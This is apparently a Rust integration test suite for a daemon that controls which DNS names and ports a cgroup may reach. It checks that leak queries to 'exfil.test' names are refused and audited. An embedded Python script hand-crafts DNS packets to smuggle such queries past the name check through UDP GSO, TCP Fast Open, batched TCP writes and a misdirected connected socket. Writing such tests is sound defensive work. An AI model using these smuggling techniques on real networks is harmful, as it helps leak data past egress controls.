//! Side doors of issue 14 that go through DNS and the gates: queries for names no rule allows,
//! search domains with `ndots:5`, ports on learned addresses, connected UDP with control
//! messages, and the egress backstop. Real clients (dig, glibc's getaddrinfo through getent,
//! python sockets) against real servers in the test's peer namespace (dnsmasq with its query
//! log, listeners that report what reached them).

use std::{
    io::{BufRead, BufReader, Write},
    process::Stdio,
    time::{Duration, Instant},
};

use ram_tests::{
    Background, Daemon, TempDir, TestCgroup, TestNet,
    peers::{HTTP_PORT, a, b},
    probe_in,
};

fn policy(names: &[&str], extra: &str) -> String {
    let list: Vec<String> = names.iter().map(|n| format!("\"{n}\"")).collect();
    format!(
        "[registry_access]\nallow = [{}]\nallow_loopback = false\n{extra}\n[dns]\nresolvers = [\"{}\"]\n",
        list.join(", "),
        a(),
    )
}

/// dnsmasq answering `registry.test` (address B), local for `test` and `local` (unknown names
/// there are NXDOMAIN, as a cluster's DNS answers for search domains), logging every query it
/// receives to `log`.
fn dnsmasq_logging(net: &TestNet, dir: &TempDir) -> (Background, std::path::PathBuf) {
    let log = dir.path().join("dnsmasq.log");
    let dns = net.dnsmasq_logging(
        &[("registry.test", TestNet::PEER_V4[1].into())],
        &["--log-queries", "--local=/test/", "--local=/local/"],
        &log.display().to_string(),
    );
    (dns, log)
}

fn queries_seen(log: &std::path::Path) -> String {
    std::fs::read_to_string(log).unwrap_or_default()
}

/// `dig` in the cgroup; its answers and how long it took.
fn dig(cgroup: &TestCgroup, name: &str) -> (String, Duration) {
    let started = Instant::now();
    let answer = ram_tests::dig_in(cgroup, &a(), name, "A", 3, &[]);
    (answer, started.elapsed())
}

#[test]
fn a_query_for_an_unlisted_name_fails_at_once_and_never_leaves() {
    let net = TestNet::new();
    let dir = TempDir::new();
    let (_dns, log) = dnsmasq_logging(&net, &dir);
    let cgroup = TestCgroup::new();
    let daemon = Daemon::start(&policy(&["registry.test"], ""), &[cgroup.path()]).unwrap();

    let (answer, _) = dig(&cgroup, "registry.test");
    assert_eq!(answer, b(), "an allowed name resolves");
    // dig sees its send fail (EPERM) and reports a communications error (after its own
    // timeout: it waits for other answers).
    let (answer, _) = dig(&cgroup, "secret-data.exfil.test");
    assert!(answer.is_empty() || answer.starts_with(";;"), "{answer}");
    // Python's getaddrinfo (glibc) fails at once: never a client timeout.
    let started = Instant::now();
    let status = cgroup
        .command("python3")
        .args([
            "-c",
            "import socket; socket.getaddrinfo('other.exfil.test', 443)",
        ])
        .stderr(Stdio::null())
        .status()
        .unwrap();
    assert!(!status.success());
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "{:?}",
        started.elapsed()
    );

    std::thread::sleep(Duration::from_millis(300));
    let seen = queries_seen(&log);
    assert!(
        seen.contains("registry.test"),
        "the resolver logs queries: {seen}"
    );
    assert!(
        !seen.contains("exfil"),
        "a refused query reached the resolver: {seen}"
    );
    let records = daemon.audit_records();
    let refusal = records
        .iter()
        .find(|r| r["reason"] == "query_not_allowed" && r["hostname"] == "secret-data.exfil.test")
        .unwrap_or_else(|| panic!("no audit line names the refused query: {records:?}"));
    assert_eq!(refusal["verdict"], "deny");
    assert_eq!(refusal["hook"], "dns_query");
}

#[test]
fn dns_queries_any_lets_every_name_through() {
    let net = TestNet::new();
    let dir = TempDir::new();
    let (_dns, log) = dnsmasq_logging(&net, &dir);
    let cgroup = TestCgroup::new();
    let text = policy(&["registry.test"], "") + "queries = \"any\"\n";
    let _daemon = Daemon::start(&text, &[cgroup.path()]).unwrap();
    let _ = dig(&cgroup, "anything.exfil.test");
    std::thread::sleep(Duration::from_millis(300));
    assert!(queries_seen(&log).contains("anything.exfil.test"));
}

/// getent (glibc getaddrinfo: A and AAAA in parallel) in the cgroup, in a mount namespace of
/// its own whose /etc/resolv.conf is `resolv`; its output and how long it took.
fn getent_with(cgroup: &TestCgroup, resolv: &std::path::Path, name: &str) -> (String, Duration) {
    let started = Instant::now();
    let output = cgroup
        .command("unshare")
        .args([
            "-m",
            "sh",
            "-c",
            "mount --bind \"$0\" /etc/resolv.conf && exec getent ahosts \"$1\"",
        ])
        .arg(resolv)
        .arg(name)
        .output()
        .unwrap();
    (
        String::from_utf8_lossy(&output.stdout).into_owned(),
        started.elapsed(),
    )
}

#[test]
fn search_domains_with_ndots_5_still_resolve_allowed_names_at_once() {
    let net = TestNet::new();
    let _http = net.http_server(HTTP_PORT);
    let dir = TempDir::new();
    let (_dns, log) = dnsmasq_logging(&net, &dir);
    // Kubernetes' pattern: three cluster search domains and ndots:5, so every name with fewer
    // than five dots is first asked with each search domain appended. The daemon was told of
    // none of them (not in the host's resolv.conf, nor in the policy).
    let resolv = dir.write(
        "resolv.conf",
        &format!(
            "nameserver {}\nsearch default.svc.cluster.local svc.cluster.local cluster.local\n\
             options ndots:5 attempts:1 timeout:3\n",
            a()
        ),
    );
    let cgroup = TestCgroup::new();
    let _daemon = Daemon::start(&policy(&["registry.test"], ""), &[cgroup.path()]).unwrap();

    let (output, took) = getent_with(&cgroup, &resolv, "registry.test");
    assert!(
        output.contains(&b()),
        "resolved through the search list: {output}"
    );
    assert!(
        took < Duration::from_secs(2),
        "no timeout on the way: {took:?}"
    );
    let seen = queries_seen(&log);
    assert!(
        seen.contains("registry.test.default.svc.cluster.local"),
        "the search queries were asked: {seen}"
    );
    assert_eq!(
        probe_in(&cgroup, "tcp-connect", &b(), HTTP_PORT).result,
        "ok",
        "and the answer was learned"
    );
    // A name no rule allows, with the same search domains: refused at its first query.
    let (output, took) = getent_with(&cgroup, &resolv, "leak.exfil.test");
    assert!(output.is_empty(), "{output}");
    assert!(took < Duration::from_secs(2), "{took:?}");
    assert!(!queries_seen(&log).contains("exfil"));
}

#[test]
fn search_domains_of_the_policy_and_the_budget_for_others() {
    let net = TestNet::new();
    let dir = TempDir::new();
    let (_dns, log) = dnsmasq_logging(&net, &dir);
    let cgroup = TestCgroup::new();
    let text = policy(&["registry.test"], "") + "search_domains = [\"corp.test\"]\n";
    let _daemon = Daemon::start(&text, &[cgroup.path()]).unwrap();
    // A search domain the policy names: asked for as often as wanted.
    for _ in 0..3 {
        let _ = dig(&cgroup, "registry.test.corp.test");
    }
    // Others: at most six distinct ones per cgroup, so that an allowed name cannot carry data
    // out in what follows it.
    for i in 0..10 {
        let _ = dig(&cgroup, &format!("registry.test.chunk{i}.exfil.test"));
    }
    std::thread::sleep(Duration::from_millis(300));
    let seen = queries_seen(&log);
    assert!(seen.contains("registry.test.corp.test"), "{seen}");
    let leaked = (0..10)
        .filter(|i| seen.contains(&format!("chunk{i}.exfil.test")))
        .count();
    assert_eq!(leaked, 6, "the budget of unknown search domains: {seen}");
}

/// A listener on `port` of every peer address, in the peer namespace, that prints each
/// connection it accepts; stopped (and read) by [`Acceptor::accepted`].
struct Acceptor {
    child: std::process::Child,
}

impl Acceptor {
    fn new(net: &TestNet, port: u16) -> Self {
        let script = format!(
            "import socket,sys\ns=socket.socket(socket.AF_INET6)\n\
             s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\ns.bind(('::',{port}))\n\
             s.listen(16)\nprint('ready',flush=True)\ns.settimeout(20)\n\
             while True:\n  c,a=s.accept()\n  print('accepted',a[0],flush=True)\n"
        );
        let mut child = net
            .command("python3")
            .args(["-c", &script])
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.as_mut().unwrap())
            .read_line(&mut line)
            .unwrap();
        assert_eq!(line.trim(), "ready");
        Self { child }
    }

    fn accepted(mut self) -> String {
        std::thread::sleep(Duration::from_millis(300));
        let _ = self.child.kill();
        let output = self.child.wait_with_output().unwrap();
        String::from_utf8_lossy(&output.stdout).into_owned()
    }
}

#[test]
fn a_learned_address_is_allowed_on_its_rules_ports_only() {
    let net = TestNet::new();
    let _http = net.http_server(HTTP_PORT);
    let dir = TempDir::new();
    let (_dns, _log) = dnsmasq_logging(&net, &dir);
    let cgroup = TestCgroup::new();
    let daemon = Daemon::start(&policy(&["registry.test"], ""), &[cgroup.path()]).unwrap();
    assert_eq!(dig(&cgroup, "registry.test").0, b());
    assert_eq!(
        probe_in(&cgroup, "tcp-connect", &b(), HTTP_PORT).result,
        "ok"
    );

    // `ram check` and `ram learned` say which ports.
    let check = daemon.ram(&["check", "registry.test"]).unwrap();
    assert!(check.contains("ports 443, 80"), "{check}");
    let learned = daemon.ram(&["learned"]).unwrap();
    assert!(learned.contains("ports 443, 80"), "{learned}");

    let far_side = Acceptor::new(&net, 2222);
    assert_eq!(probe_in(&cgroup, "tcp-connect", &b(), 2222).result, "EPERM");
    let accepted = far_side.accepted();
    assert!(!accepted.contains("accepted"), "{accepted}");
    let records = daemon.audit_records();
    assert!(
        records
            .iter()
            .any(|r| r["reason"] == "port_not_allowed" && r["dst_port"] == 2222),
        "{records:?}"
    );
}

#[test]
fn an_entry_with_a_port_allows_that_port_only() {
    let net = TestNet::new();
    let _http = net.http_server(HTTP_PORT);
    let dir = TempDir::new();
    let (_dns, _log) = dnsmasq_logging(&net, &dir);
    let cgroup = TestCgroup::new();
    let _daemon = Daemon::start(&policy(&["registry.test:2222"], ""), &[cgroup.path()]).unwrap();
    assert_eq!(dig(&cgroup, "registry.test").0, b());
    let far_side = Acceptor::new(&net, 2222);
    assert_eq!(probe_in(&cgroup, "tcp-connect", &b(), 2222).result, "ok");
    assert!(far_side.accepted().contains("accepted"));
    assert_eq!(
        probe_in(&cgroup, "tcp-connect", &b(), HTTP_PORT).result,
        "EPERM",
        "port 80 is not the entry's"
    );
}

/// Sends one datagram on a UDP socket connected to `addr:7`, with an IP_TOS control message;
/// prints the send's result and whether the echo came back.
const CONNECTED_UDP_CMSG: &str = r#"
import errno, socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
s.connect((sys.argv[1], 7))
try:
    s.sendmsg([b"ping"], [(socket.IPPROTO_IP, socket.IP_TOS, struct.pack("i", 0x10))])
    print("sent", s.recv(16).decode())
except OSError as e:
    print(errno.errorcode.get(e.errno, str(e)) if e.errno else "timeout")
"#;

#[test]
fn a_connected_udp_send_with_a_control_message_is_judged_by_its_peer() {
    let net = TestNet::new();
    let _echo = net.udp_echo_server(7);
    let cgroup = TestCgroup::new();
    // Loopback not allowed: the gate used to judge such a send as 0.0.0.0 and refuse it.
    let text = policy(&[], &format!("allow_cidrs = [\"{}\"]", a()));
    let _daemon = Daemon::start(&text, &[cgroup.path()]).unwrap();
    let output = cgroup
        .command("python3")
        .args(["-c", CONNECTED_UDP_CMSG, &a()])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&output.stdout).trim(), "sent ping");
}

/// Connects a UDP socket to `addr:7` at once, then sends on it each time a line arrives on
/// stdin; prints each result.
const CONNECTED_EARLY: &str = r#"
import errno, socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
s.connect((sys.argv[1], 7))
print("connected", flush=True)
for _ in sys.stdin:
    try:
        s.send(b"ping")
        print("sent", s.recv(16).decode(), flush=True)
    except OSError as e:
        print(errno.errorcode.get(e.errno, str(e)) if e.errno else "timeout", flush=True)
"#;

#[test]
fn the_backstop_stops_a_udp_socket_connected_before_enforcement() {
    let net = TestNet::new();
    let _echo = net.udp_echo_server(7);
    let cgroup = TestCgroup::new();
    let mut client = cgroup
        .command("python3")
        .args(["-c", CONNECTED_EARLY, &a()])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = client.stdin.take().unwrap();
    let mut stdout = BufReader::new(client.stdout.take().unwrap());
    let mut line = String::new();
    stdout.read_line(&mut line).unwrap();
    assert_eq!(line.trim(), "connected");
    writeln!(stdin, "go").unwrap();
    line.clear();
    stdout.read_line(&mut line).unwrap();
    assert_eq!(
        line.trim(),
        "sent ping",
        "before enforcement the peer answers"
    );

    // Now the cgroup is enforced; A is allowed on port 53 only (the resolver). Its connect was never judged (it came
    // first), and sends on a connected socket run no gate: the egress backstop stops them.
    let _daemon = Daemon::start(&policy(&[], ""), &[cgroup.path()]).unwrap();
    writeln!(stdin, "go").unwrap();
    line.clear();
    stdout.read_line(&mut line).unwrap();
    assert_eq!(line.trim(), "EPERM", "nothing left, so nothing echoed");
    drop(stdin);
    let _ = client.wait();
}

/// DNS queries built by hand and sent in ways a resolver library would not: `argv[1]` is the
/// resolver, `argv[2]` the way, the rest names. Prints `result` (`sent`, `answer`, or the
/// errno's name).
const CRAFTED_QUERIES: &str = r#"
import errno, socket, struct, sys, time
resolver, way, names = sys.argv[1], sys.argv[2], sys.argv[3:]
def query(txid, name):
    wire = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    return struct.pack("!HHHHHH", txid, 0x0100, 1, 0, 0, 0) + wire + struct.pack("!HH", 1, 1)
try:
    if way == "gso":
        # One send the kernel cuts into 512-byte datagrams: each a query of its own.
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect((resolver, 53))
        chunks = [query(i + 1, n).ljust(512, b"\0") for i, n in enumerate(names)]
        s.sendmsg([b"".join(chunks)], [(socket.SOL_UDP, 103, struct.pack("H", 512))])
    elif way == "connected-elsewhere":
        # Connected to an allowed address, then sends to the resolver with sendto.
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect((names[0], 9))
        for i, n in enumerate(names[1:]):
            s.sendto(query(i + 1, n), (resolver, 53))
            time.sleep(0.2)
    elif way == "tfo":
        # TCP Fast Open without a cookie: the query rides in the SYN.
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(2)
        s.setsockopt(socket.IPPROTO_TCP, 34, 1)  # TCP_FASTOPEN_NO_COOKIE
        q = query(1, names[0])
        s.sendto(struct.pack("!H", len(q)) + q, socket.MSG_FASTOPEN, (resolver, 53))
        s.recv(2)
    elif way == "tcp-two":
        # Two queries in one write, one segment: an allowed one and another.
        s = socket.create_connection((resolver, 53), timeout=2)
        data = b"".join(struct.pack("!H", len(q)) + q for q in (query(1, names[0]), query(2, names[1])))
        s.sendall(data)
        s.settimeout(2)
        s.recv(2)
    print("sent")
except socket.timeout:
    print("timeout")
except OSError as e:
    print(errno.errorcode.get(e.errno, str(e.errno)))
"#;

fn crafted(cgroup: &TestCgroup, way: &str, names: &[&str]) -> String {
    let output = cgroup
        .command("python3")
        .args(["-c", CRAFTED_QUERIES, &a(), way])
        .args(names)
        .output()
        .unwrap();
    String::from_utf8_lossy(&output.stdout).trim().to_owned()
}

/// Queries smuggled past the name check: behind an allowed one in a UDP GSO send, or in the
/// same TCP segment, or from a UDP socket connected elsewhere. None reaches the resolver.
#[test]
fn queries_cannot_be_smuggled_past_the_name_check() {
    let net = TestNet::new();
    let dir = TempDir::new();
    let (_dns, log) = dnsmasq_logging(&net, &dir);
    let cgroup = TestCgroup::new();
    let text = policy(&["registry.test"], &format!("allow_cidrs = [\"{}\"]", b()));
    let _daemon = Daemon::start(&text, &[cgroup.path()]).unwrap();

    let gso = crafted(&cgroup, "gso", &["registry.test", "gso.exfil.test"]);
    assert_eq!(gso, "EPERM", "a segmented send is not let out");
    let elsewhere = crafted(
        &cgroup,
        "connected-elsewhere",
        &[&b(), "registry.test", "elsewhere.exfil.test"],
    );
    assert_eq!(elsewhere, "EPERM", "{elsewhere}");
    let _ = crafted(&cgroup, "tcp-two", &["registry.test", "tcp.exfil.test"]);
    let _ = crafted(&cgroup, "tfo", &["tfo.exfil.test"]);
    std::thread::sleep(Duration::from_millis(500));
    let seen = queries_seen(&log);
    assert!(
        seen.contains("registry.test"),
        "the allowed query arrives: {seen}"
    );
    assert!(!seen.contains("exfil"), "a smuggled query arrived: {seen}");
}

/// Port 53 of anything but a trusted resolver is refused, even where a prefix rule allows the
/// address (a resolver of one's own would answer anything), and a wildcard name gets no
/// search domain the daemon was not told of.
#[test]
fn dns_goes_to_trusted_resolvers_only_and_wildcards_get_known_search_domains_only() {
    let net = TestNet::new();
    let dir = TempDir::new();
    let (_dns, log) = dnsmasq_logging(&net, &dir);
    let cgroup = TestCgroup::new();
    let text = policy(
        &["registry.test:*", "*.wild.test"],
        &format!("allow_cidrs = [\"{}\"]", b()),
    ) + "search_domains = [\"corp.test\"]\n";
    let daemon = Daemon::start(&text, &[cgroup.path()]).unwrap();
    assert_eq!(probe_in(&cgroup, "udp-sendto", &b(), 53).result, "EPERM");
    assert_eq!(probe_in(&cgroup, "tcp-connect", &b(), 53).result, "EPERM");
    // Nor does a learned address on every port (`registry.test:*`).
    assert_eq!(dig(&cgroup, "registry.test").0, b());
    assert_eq!(probe_in(&cgroup, "udp-sendto", &b(), 53).result, "EPERM");
    assert!(
        daemon
            .audit_records()
            .iter()
            .any(|r| r["reason"] == "resolver_not_trusted" && r["dst_port"] == 53),
        "{:?}",
        daemon.audit_records()
    );
    // The wildcard's own labels could carry anything: only known search domains follow it.
    let _ = dig(&cgroup, "data.wild.test.corp.test");
    let _ = dig(&cgroup, "secret.wild.test.x.exfil.test");
    std::thread::sleep(Duration::from_millis(300));
    let seen = queries_seen(&log);
    assert!(seen.contains("data.wild.test.corp.test"), "{seen}");
    assert!(!seen.contains("exfil"), "{seen}");
}

/// A shared front end: two allowed names answered with one address. Each rule's ports hold for
/// the address, and `ram learned` shows them merged.
#[test]
fn an_address_two_names_taught_has_both_rules_ports() {
    let net = TestNet::new();
    let _http = net.http_server(HTTP_PORT);
    let dir = TempDir::new();
    let log = dir.path().join("dnsmasq.log");
    let _dns = net.dnsmasq_logging(
        &[
            ("registry.test", TestNet::PEER_V4[1].into()),
            ("mirror.test", TestNet::PEER_V4[1].into()),
        ],
        &["--log-queries", "--local=/test/"],
        &log.display().to_string(),
    );
    let cgroup = TestCgroup::new();
    let daemon = Daemon::start(
        &policy(&["registry.test", "mirror.test:2222"], ""),
        &[cgroup.path()],
    )
    .unwrap();
    assert_eq!(dig(&cgroup, "registry.test").0, b());
    assert_eq!(dig(&cgroup, "mirror.test").0, b());
    let far_side = Acceptor::new(&net, 2222);
    assert_eq!(probe_in(&cgroup, "tcp-connect", &b(), 2222).result, "ok");
    assert!(far_side.accepted().contains("accepted"));
    assert_eq!(
        probe_in(&cgroup, "tcp-connect", &b(), HTTP_PORT).result,
        "ok"
    );
    let learned: serde_json::Value =
        serde_json::from_str(&daemon.ram(&["learned", "--json"]).unwrap()).unwrap();
    let entry = learned
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["addr"] == b())
        .unwrap_or_else(|| panic!("{learned}"));
    let ports = entry["ports"].as_array().unwrap();
    for port in [443, 80, 2222] {
        assert!(ports.iter().any(|p| p == port), "{entry}");
    }
    assert!(
        entry["names"]
            .as_array()
            .unwrap()
            .iter()
            .any(|n| n == "registry.test"),
        "{entry}"
    );
}
